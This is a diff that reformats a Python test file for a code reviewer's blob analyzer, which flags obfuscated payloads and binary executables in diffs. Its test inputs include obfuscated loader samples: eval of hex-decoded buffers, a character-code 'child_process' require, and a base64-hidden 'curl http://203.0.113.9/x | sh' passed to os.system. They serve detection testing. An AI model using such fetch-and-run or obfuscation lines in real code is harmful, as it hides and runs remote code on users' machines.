@@ -9,7 +9,11 @@ from pathlib import Path
 from conftest import benign_noise
 
 from reviewer.core.analyzers.blobs import (
-    BlobAnalyzer, is_doc_path, is_generated_path, is_program_like, is_test_path,
+    BlobAnalyzer,
+    is_doc_path,
+    is_generated_path,
+    is_program_like,
+    is_test_path,
 )
 from reviewer.core.diff import parse_diff
 from reviewer.core.engine import scan
@@ -19,13 +23,17 @@ from reviewer.core.findings import Finding, Severity
 def new_file_diff(path: str, text: str) -> str:
     lines = text.splitlines()
     body = "".join(f"+{line}\n" for line in lines)
-    return (f"diff --git a/{path} b/{path}\nnew file mode 100644\nindex 0000000..1111111\n"
-            f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{len(lines)} @@\n{body}")
+    return (
+        f"diff --git a/{path} b/{path}\nnew file mode 100644\nindex 0000000..1111111\n"
+        f"--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{len(lines)} @@\n{body}"
+    )
 
 
 def binary_diff(path: str) -> str:
-    return (f"diff --git a/{path} b/{path}\nnew file mode 100644\nindex 0000000..e69de29\n"
-            f"Binary files /dev/null and b/{path} differ\n")
+    return (
+        f"diff --git a/{path} b/{path}\nnew file mode 100644\nindex 0000000..e69de29\n"
+        f"Binary files /dev/null and b/{path} differ\n"
+    )
 
 
 def findings(diff: str) -> list[Finding]:
@@ -47,7 +55,9 @@ def test_long_base64_payload_in_source_is_medium() -> None:
 
 def test_payload_decoded_on_the_same_line_is_high() -> None:
     blob = _random_bytes(300).hex()
-    found = findings(new_file_diff("lib/boot.js", f'eval(Buffer.from("{blob}", "hex").toString())\n'))
+    found = findings(
+        new_file_diff("lib/boot.js", f'eval(Buffer.from("{blob}", "hex").toString())\n')
+    )
     assert [(f.rule_id, f.severity) for f in found] == [("blob-encoded-payload", Severity.HIGH)]
 
 
@@ -58,24 +68,29 @@ def test_escaped_byte_string_is_a_payload() -> None:
 
 
 def test_hex_literal_that_spells_a_path_is_flagged_with_its_text() -> None:
-    hidden = "./test/data".encode().hex()
+    hidden = b"./test/data".hex()
     found = findings(new_file_diff("index.js", f'var n = r(e("{hidden}"));\n'))
     assert [(f.rule_id, f.severity) for f in found] == [("blob-encoded-text", Severity.MEDIUM)]
     assert "./test/data" in found[0].message
 
 
 def test_hex_text_in_a_file_that_decodes_and_loads_code_is_high() -> None:
-    name = "./lib/payload".encode().hex()
-    code = ("function d(s) { return Buffer.from(s, 'hex').toString(); }\n"
-            f"var m = require(d(\"{name}\"));\n")
+    name = b"./lib/payload".hex()
+    code = (
+        "function d(s) { return Buffer.from(s, 'hex').toString(); }\n"
+        f'var m = require(d("{name}"));\n'
+    )
     found = findings(new_file_diff("index.js", code))
     assert [(f.rule_id, f.start_line, f.severity) for f in found] == [
-        ("blob-encoded-text", 2, Severity.HIGH)]
+        ("blob-encoded-text", 2, Severity.HIGH)
+    ]
 
 
 def test_char_codes_and_base64_that_hide_commands() -> None:
     codes = ",".join(str(ord(c)) for c in "child_process")
-    found = findings(new_file_diff("src/a.js", f"const m = require(String.fromCharCode({codes}));\n"))
+    found = findings(
+        new_file_diff("src/a.js", f"const m = require(String.fromCharCode({codes}));\n")
+    )
     assert [f.rule_id for f in found] == ["blob-encoded-text"]
     b64 = base64.b64encode(b"curl http://203.0.113.9/x | sh").decode()
     found = findings(new_file_diff("src/b.py", f'os.system(base64.b64decode("{b64}"))\n'))
@@ -83,24 +98,36 @@ def test_char_codes_and_base64_that_hide_commands() -> None:
 
 
 def test_hashes_and_ids_are_not_text() -> None:
-    code = ('SHA = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"\n'
-            'UUID_HEX = "3f2504e04f8911d39a0c0305e82c3301"\n'
-            'ETAG = "W/\\"5f8d2c\\""\n'
-            'INTEGRITY = "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg=="\n')
+    code = (
+        'SHA = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"\n'
+        'UUID_HEX = "3f2504e04f8911d39a0c0305e82c3301"\n'
+        'ETAG = "W/\\"5f8d2c\\""\n'
+        'INTEGRITY = "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg=="\n'
+    )
     assert findings(new_file_diff("src/consts.py", code)) == []
 
 
 def test_digit_pair_tables_are_not_hex_text() -> None:
     # Two-digit lookup tables ("00".."99") read as hex spell alphabet runs, not hidden words.
-    code = ('static const char pairs[] =\n  "4243444546474849505152535455"\n'
-            '  "6465666768696a6b6c6d6e6f7071";\n')
-    assert [f for f in findings(new_file_diff("src/fmt.c", code)) if f.severity >= Severity.MEDIUM] == []
+    code = (
+        'static const char pairs[] =\n  "4243444546474849505152535455"\n'
+        '  "6465666768696a6b6c6d6e6f7071";\n'
+    )
+    assert [
+        f for f in findings(new_file_diff("src/fmt.c", code)) if f.severity >= Severity.MEDIUM
+    ] == []
 
 
 def test_generated_vendored_and_data_files_are_not_payloads() -> None:
     blob = base64.b64encode(_random_bytes(400)).decode()
-    for path in ("web/dist/app.min.js", "vendor/lib/x.js", "package-lock.json", "fixtures/blob.py",
-                 "docs/guide.md", "assets/logo.svg"):
+    for path in (
+        "web/dist/app.min.js",
+        "vendor/lib/x.js",
+        "package-lock.json",
+        "fixtures/blob.py",
+        "docs/guide.md",
+        "assets/logo.svg",
+    ):
         found = findings(new_file_diff(path, f'x = "{blob}"\n'))
         assert all(f.severity <= Severity.LOW for f in found), path
     css = f"a {{ background: url(data:image/png;base64,{blob}); }}\n"
@@ -122,7 +149,8 @@ def test_ordinary_long_lines_are_quiet() -> None:
 def test_binary_executables_rank_above_other_binaries_and_assets_are_quiet() -> None:
     exe = findings(binary_diff("src/helpers/libhook.so"))
     assert [(f.rule_id, f.severity, f.category) for f in exe] == [
-        ("blob-binary-executable", Severity.HIGH, "binary-blob")]
+        ("blob-binary-executable", Severity.HIGH, "binary-blob")
+    ]
     no_ext = findings(binary_diff("bin/update"))
     assert [f.rule_id for f in no_ext] == ["blob-binary-executable"]
     other = findings(binary_diff("src/model.dat"))
